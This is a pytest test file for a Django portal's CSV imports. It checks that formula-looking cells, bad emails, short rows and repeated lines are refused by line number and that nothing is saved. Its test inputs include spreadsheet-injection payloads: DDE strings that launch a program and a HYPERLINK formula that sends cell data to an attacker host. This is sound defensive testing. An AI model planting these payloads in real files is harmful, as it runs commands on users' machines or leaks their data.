"""CSV imports refuse malformed rows, repeats and formula-looking cells, naming the
line, and write nothing (``credentials_portal/csv_cells.py`` says why formulas are
refused rather than stored)."""

import datetime as dt

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from accounts.services import roles_ensure
from enrollments.group_orders.participants_csv import parse_csv, parse_lines
from enrollments.models import GroupOrder, PastCompletion
from enrollments.services.past_completions import past_completion_rows_read
from tests.enrollments.order_helpers import sotl_offering
from tests.factories import LearnerFactory, PortalAdminFactory, UserFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
]


def formula_message(where: str, value: str) -> str:
    return (
        f"{where}: “{value}” starts with {value[0]}, which a spreadsheet runs as a "
        "formula. Remove that character and upload the file again."
    )


@pytest.mark.parametrize("value", FORMULAS)
def test_a_participant_name_that_is_a_formula_is_refused_by_row(value):
    quoted = value.replace('"', '""')
    parsed = parse_csv(
        f'name,email\nAda,ada@school.example\n"{quoted}",x@school.example\n'
    )

    assert parsed.errors == [formula_message("Row 3", value)]
    assert parsed.participants == [("Ada", "ada@school.example")]


def test_a_typed_line_whose_email_is_a_formula_is_refused_by_line():
    parsed = parse_lines("Ada, =cmd|'/C calc'!A0@school.example\n")

    assert parsed.errors == [
        formula_message("Line 1", "=cmd|'/C calc'!A0@school.example")
    ]
    assert parsed.participants == []


def test_a_group_csv_with_a_formula_a_bad_row_and_a_short_row_writes_nothing(
    client, monkeypatch
):
    # given a leader's file with three problems
    offering = sotl_offering()
    client.force_login(UserFactory())
    content = (
        "name,email\n"
        "Ada,ada@school.example\n"
        "=cmd|' /C calc'!A0,bob@school.example\n"
        "Cy,cy@\n"
        "Dee\n"
    )
    upload = SimpleUploadedFile("group.csv", content.encode(), "text/csv")

    # when it is uploaded
    response = client.post(
        reverse("orders:new"), {"offering": offering.pk, "csv_file": upload}
    )

    # then each is named by its row, and no order is written
    assert response.status_code == 200
    assert response.context["form"].errors["csv_file"] == [
        formula_message("Row 3", "=cmd|' /C calc'!A0"),
        "Row 4: 'cy@' is not a valid email address.",
        "Row 5: give a name and an email address.",
    ]
    assert not GroupOrder.objects.exists()


@pytest.mark.parametrize("value", FORMULAS)
def test_a_past_completion_source_that_is_a_formula_imports_nothing(
    demo_catalog, value
):
    LearnerFactory(email="lucia@example.org")
    quoted = value.replace('"', '""')
    text = (
        "email,unit_slug,completed_on,source\n"
        "lucia@example.org,sotl,2024-05-01,the 2024 cohort\n"
        f'lucia@example.org,otla,2024-05-02,"{quoted}"\n'
    )

    rows, errors = past_completion_rows_read(text=text, today=dt.date(2026, 11, 23))

    assert errors == [formula_message("Line 3", value)]
    assert [row.source for row in rows] == ["the 2024 cohort"]
    assert PastCompletion.objects.count() == 0


def test_the_admin_import_names_the_formula_line_and_the_repeat(client, demo_catalog):
    roles_ensure()
    LearnerFactory(email="lucia@example.org")
    client.force_login(PortalAdminFactory())
    text = (
        "email,unit_slug,completed_on,source\n"
        'lucia@example.org,sotl,2024-05-01,=HYPERLINK("http://x.example")\n'
        "lucia@example.org,otla,2024-05-02,the 2024 cohort\n"
        "lucia@example.org,otla,2024-05-02,the 2024 cohort\n"
        "lucia@example.org,otla\n"
    )

    response = client.post(
        reverse("admin:enrollments_pastcompletion_import"), {"csv_text": text}
    )

    page = response.content.decode()
    assert "Nothing was imported: correct these lines and try again." in page
    assert "Line 2: “=HYPERLINK(&quot;http://x.example&quot;)” starts with =" in page
    assert "Line 4 repeats an earlier line for lucia@example.org" in page
    assert "Line 5:  is not a date (use YYYY-MM-DD)." in page
    assert PastCompletion.objects.count() == 0
